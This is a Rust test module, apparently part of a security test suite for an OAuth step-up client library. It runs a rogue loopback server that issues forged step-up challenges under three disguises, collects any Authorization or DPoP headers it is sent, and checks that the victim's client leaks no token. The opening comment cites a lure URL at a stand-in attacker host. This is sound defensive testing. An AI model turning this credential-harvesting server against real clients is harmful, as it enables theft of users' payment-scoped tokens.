//! The rogue resource (issue 17 §1): a server the user is led to call with
//! their client (`stepup call https://evil.example/x`) answers with a
//! step-up challenge for the strongest level and a payments scope, hoping
//! the client hands it the token it holds, or runs the step-up at the real
//! authorization server and hands it the fresh one to replay at the bank.

use std::sync::{Arc, Mutex};

use axum::http::{HeaderMap, StatusCode, Uri};
use axum::response::{IntoResponse, Response};
use stepup_client::{ClientConfig, FormUser, Provider, StepUpClient, UserAgent};

/// What the rogue server says about itself.
#[derive(Debug, Clone, Copy)]
enum Disguise {
    /// No metadata (RFC 9728), only the challenge.
    None,
    /// The real API's metadata as its own, and a challenge naming the real
    /// API's metadata address.
    TheApisMetadata,
    /// Metadata of its own that names the real authorization server.
    ItsOwnMetadata,
}

/// What the rogue server was sent: credentials, as `header: value`.
type Loot = Arc<Mutex<Vec<String>>>;

/// Starts a rogue server on loopback; its URL and what it collects.
async fn rogue_server(disguise: Disguise, api: &str, issuer: &str) -> Result<(String, Loot), String> {
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0")
        .await
        .map_err(|e| e.to_string())?;
    let own = format!("http://{}", listener.local_addr().map_err(|e| e.to_string())?);
    let loot: Loot = Arc::default();
    let (api, issuer, me, kept) = (api.to_owned(), issuer.to_owned(), own.clone(), Arc::clone(&loot));
    let app = axum::Router::new().fallback(move |uri: Uri, headers: HeaderMap| {
        for name in ["authorization", "dpop"] {
            if let Some(value) = headers.get(name)
                && let Ok(mut l) = kept.lock()
            {
                l.push(format!("{name}: {}", String::from_utf8_lossy(value.as_bytes())));
            }
        }
        let answer = answer(disguise, uri.path(), &api, &issuer, &me);
        async move { answer }
    });
    tokio::spawn(async move {
        let _ = axum::serve(listener, app).await;
    });
    Ok((own, loot))
}

/// The rogue server's answer to a request for `path`.
fn answer(disguise: Disguise, path: &str, api: &str, issuer: &str, me: &str) -> Response {
    let metadata_of = |resource: &str| {
        let body = serde_json::json!({
            "resource": resource,
            "authorization_servers": [issuer],
            "scopes_supported": ["payments:write"],
        });
        ([("content-type", "application/json")], body.to_string()).into_response()
    };
    if path == stepup_core::resource_metadata::WELL_KNOWN {
        return match disguise {
            Disguise::None => StatusCode::NOT_FOUND.into_response(),
            Disguise::TheApisMetadata => metadata_of(api),
            Disguise::ItsOwnMetadata => metadata_of(me),
        };
    }
    let mut challenge = String::from(
        r#"Bearer error="insufficient_user_authentication", acr_values="urn:stepup:acr:phr urn:stepup:acr:mfa", max_age=0, scope="payments:write""#,
    );
    if matches!(disguise, Disguise::TheApisMetadata) {
        let at = format!(
            "{}{}",
            api.trim_end_matches('/'),
            stepup_core::resource_metadata::WELL_KNOWN
        );
        challenge.push_str(&format!(r#", resource_metadata="{at}""#));
    }
    (StatusCode::UNAUTHORIZED, [("www-authenticate", challenge)]).into_response()
}

/// The victim's client (the stepup client library, as `stepup call` uses
/// it; payments allowed for the API's step-ups) signed in through `agent`,
/// once it has read the balance with its own token.
pub(crate) async fn victims_client(
    http: &reqwest::Client,
    provider: Provider,
    client_id: &str,
    api: &str,
    agent: Arc<dyn UserAgent>,
) -> Result<StepUpClient, String> {
    let api_url = url::Url::parse(api).map_err(|e| e.to_string())?;
    let config = ClientConfig::public(client_id, ["openid", "accounts:read"])
        .allow_step_up_scopes(api_url, ["payments:write"]);
    let client = StepUpClient::new(http.clone(), provider, config, agent);
    let balance = http
        .get(format!("{api}/accounts/42/balance"))
        .build()
        .map_err(|e| e.to_string())?;
    let status = client
        .execute(balance)
        .await
        .map_err(|e| format!("the victim's own call failed: {e}"))?
        .status();
    if !status.is_success() {
        return Err(format!("the victim's own call answered {status}"));
    }
    Ok(client)
}

/// Plays the attack with the victim's own client (the stepup client
/// library, as `stepup call` uses it), holding a token for the real API:
/// blocked when no rogue server gets a credential and no call succeeds.
pub(crate) async fn play(
    victim: &FormUser,
    issuer: &str,
    client_id: &str,
    api: &str,
) -> Result<(bool, String), String> {
    let http = reqwest::Client::new();
    let provider = Provider::discover(&http, issuer)
        .await
        .map_err(|e| e.to_string())?;
    let client = victims_client(&http, provider, client_id, api, Arc::new(victim.share())).await?;
    let mut outcomes = Vec::new();
    for disguise in [
        Disguise::None,
        Disguise::TheApisMetadata,
        Disguise::ItsOwnMetadata,
    ] {
        let (rogue, loot) = rogue_server(disguise, api, issuer).await?;
        let request = http
            .post(format!("{rogue}/payees"))
            .header("content-type", "application/json")
            .body("{}")
            .build()
            .map_err(|e| e.to_string())?;
        let outcome = client.execute(request).await;
        let stolen = loot.lock().map(|l| l.len()).unwrap_or(usize::MAX);
        if stolen > 0 || outcome.is_ok() {
            return Ok((
                false,
                format!(
                    "a rogue resource ({disguise:?}) was sent {stolen} credential(s), the call ended {outcome:?}"
                ),
            ));
        }
        outcomes.push(format!(
            "{disguise:?}: {}",
            outcome.err().map(|e| e.to_string()).unwrap_or_default()
        ));
    }
    Ok((
        true,
        format!(
            "the victim's client called three rogue resources asking for phr and payments:write; none got a token: {}",
            outcomes.join("; ")
        ),
    ))
}
